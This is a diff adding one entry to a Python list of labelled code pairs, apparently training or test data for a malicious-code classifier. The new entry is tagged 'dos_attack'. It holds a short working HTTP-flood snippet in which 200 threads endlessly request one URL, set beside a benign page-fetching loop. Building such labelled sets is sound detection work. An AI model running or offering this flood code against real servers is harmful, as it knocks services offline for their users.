@@ -1106,6 +1106,13 @@ PAIRS = [
      "users = {u: ''.join(secrets.choice(string.ascii_letters + string.digits) for _ in range(16)) for u in ['ann1', 'ann2', 'ann3']}\n"
      "store = {u: bcrypt.hashpw(p.encode(), bcrypt.gensalt()) for u, p in users.items()}\n"
      "assert all(verify(users[u], store[u]) for u in users)"),
+    ("flood: endless workers opening one URL through a urllib opener; an opener reading a list of pages",
+     "dos_attack",
+     "import threading, urllib.request\nopener = urllib.request.build_opener()\ndef work():\n    while True:\n"
+     "        opener.open('http://203.0.113.7/index.php', timeout=4).read(1)\nfor _ in range(200):\n"
+     "    threading.Thread(target=work, daemon=True).start()",
+     "import urllib.request\nopener = urllib.request.build_opener()\nfor url in pages:\n"
+     "    html = opener.open(url, timeout=10).read()\n    save(url, html)"),
 ]
 
 
